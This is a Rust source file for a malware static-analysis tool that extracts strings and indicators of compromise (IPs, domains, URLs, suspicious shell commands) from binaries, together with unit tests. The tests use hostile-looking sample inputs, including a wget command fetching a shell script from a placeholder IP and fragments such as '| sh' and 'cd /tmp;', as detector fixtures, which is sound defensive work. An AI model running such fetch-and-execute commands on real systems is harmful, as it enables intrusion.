//! String and IOC extraction for ferret's static analysis of Linux malware.
//!
//! Two layers:
//!
//! * [`extract`] / [`iter_strings`] pull printable ASCII and UTF-16LE strings
//!   out of a byte buffer, with file offsets, like `strings(1)`.
//! * [`iocs`] / [`IocExtractor`] find indicators of compromise in those
//!   strings: IPv4/IPv6 addresses, domains, URLs, e-mail addresses, paths
//!   (with a category for sensitive ones) and suspicious shell command lines.
//!
//! [`analyze`] does both in one pass: IOCs are taken from *every* string, while
//! only the first `max_strings` strings are kept for the report.
//!
//! All output types implement `serde::Serialize` with snake_case names.
//!
//! The IOC detectors favour precision: a domain must end in a known public
//! suffix and must not look like a file or symbol name (`libc.so`, `x.sh`,
//! `std.io`); dotted quads must not sit in version context (`v1.2.3.4`,
//! `Chrome/1.2.3.4`); see each detector's documentation for the exact rules.

mod extract;
mod ioc;
mod simd;

pub use extract::{
    DEFAULT_MAX_STRINGS, DEFAULT_MIN_LEN, Encoding, FoundString, StringIter, StringOptions,
    Strings, extract, iter_strings,
};
pub use ioc::{
    CommandIoc, DomainIoc, EmailIoc, IocExtractor, Iocs, IpScope, Ipv4Ioc, Ipv6Ioc, PathCategory,
    PathIoc, UrlIoc, iocs,
};

use serde::Serialize;

/// Strings and IOCs of one buffer, as produced by [`analyze`].
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Analysis<'d> {
    /// The kept strings (capped by `max_strings`) and the total count.
    pub strings: Strings<'d>,
    /// IOCs found in all strings, including those beyond the cap.
    pub iocs: Iocs,
}

/// Extracts strings from `data` and IOCs from all of them in a single pass.
pub fn analyze<'d>(data: &'d [u8], opts: &StringOptions) -> Analysis<'d> {
    let mut extractor = IocExtractor::new();
    let mut kept = Vec::new();
    let mut total = 0u64;
    for s in iter_strings(data, opts) {
        total += 1;
        extractor.add(&s);
        if kept.len() < opts.max_strings {
            kept.push(s);
        }
    }
    Analysis {
        strings: Strings {
            total,
            truncated: total > kept.len() as u64,
            strings: kept,
        },
        iocs: extractor.finish(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn iocs_come_from_strings_beyond_the_cap() {
        let data = b"first string\0second one\0wget http://203.0.113.9/x.sh\0";
        let opts = StringOptions {
            max_strings: 1,
            ..StringOptions::default()
        };
        let a = analyze(data, &opts);
        assert_eq!((a.strings.total, a.strings.truncated), (3, true));
        assert_eq!(a.strings.strings.len(), 1);
        assert_eq!(a.iocs.urls.len(), 1);
        assert_eq!(a.iocs.ipv4.len(), 1);
        assert_eq!(a.iocs.ipv4[0].first_offset, 36);
        assert_eq!(a.iocs.commands[0].tools, ["wget"]);
        // The same IOCs through the iterator API.
        let all: Vec<FoundString<'_>> = iter_strings(data, &opts).collect();
        assert_eq!(iocs(&all), a.iocs);
    }

    #[test]
    fn counts_and_first_offsets_deduplicate() {
        let data = b"x 10.1.1.1 y\0\0\0\0ping 10.1.1.1\0evil.example.com EVIL.EXAMPLE.COM";
        let a = analyze(data, &StringOptions::default());
        assert_eq!(a.iocs.ipv4.len(), 1);
        assert_eq!((a.iocs.ipv4[0].first_offset, a.iocs.ipv4[0].count), (2, 2));
        assert_eq!(a.iocs.domains.len(), 1);
        assert_eq!(a.iocs.domains[0].value, "evil.example.com");
        assert_eq!(a.iocs.domains[0].registrable, "example.com");
        assert_eq!(a.iocs.domains[0].count, 2);
    }

    #[test]
    fn hostile_input_does_not_panic() {
        // Random strings over the characters the detectors react to.
        const ALPHABET: &[u8] = b"0123456789abcdefxyzABC.:/@-_%~$;|&`()'\"<>[] \t\0\x01\xff=+*#?!,";
        let mut state = 0x2545_f491_4f6c_dd1du64;
        let mut data = Vec::with_capacity(200_000);
        for _ in 0..200_000 {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            data.push(ALPHABET[(state % ALPHABET.len() as u64) as usize]);
        }
        for min_len in [1, 4] {
            let opts = StringOptions {
                min_len,
                ..StringOptions::default()
            };
            let a = analyze(&data, &opts);
            assert!(a.strings.total > 0);
        }
        // Pathological shapes: one huge run, deep separators, long labels.
        let mut big = "a.".repeat(50_000).into_bytes();
        big.extend(b"com ");
        big.extend("sh -c ".repeat(1000).as_bytes());
        big.extend("/".repeat(10_000).as_bytes());
        big.extend("@".repeat(10_000).as_bytes());
        big.extend("::".repeat(10_000).as_bytes());
        let a = analyze(&big, &StringOptions::default());
        assert_eq!(a.strings.total, 1);
    }

    #[test]
    fn adversarial_strings_stay_linear() {
        // One long printable string per shape; each must scan in well under a
        // second even in the debug profile (quadratic behaviour would take
        // minutes at this size).
        let shapes: &[&str] = &[
            "1.",
            "1.2.3.4.",
            "a.",
            "a-",
            "a@",
            "@a",
            "/a",
            "~/",
            "http://",
            "http://a.com/)",
            "::",
            "1:",
            "sh -c ",
            "; wget ",
            "| sh ",
            "a ",
            "%s",
            "x.sh ",
            "cd /tmp;",
        ];
        for shape in shapes {
            let data = shape.repeat(400_000 / shape.len());
            let t = std::time::Instant::now();
            let a = analyze(data.as_bytes(), &StringOptions::default());
            let took = t.elapsed();
            eprintln!("{shape:?}: {took:?}");
            assert_eq!(a.strings.total, 1, "{shape:?}");
            assert!(took.as_secs_f64() < 5.0, "{shape:?} took {took:?}");
        }
    }
}
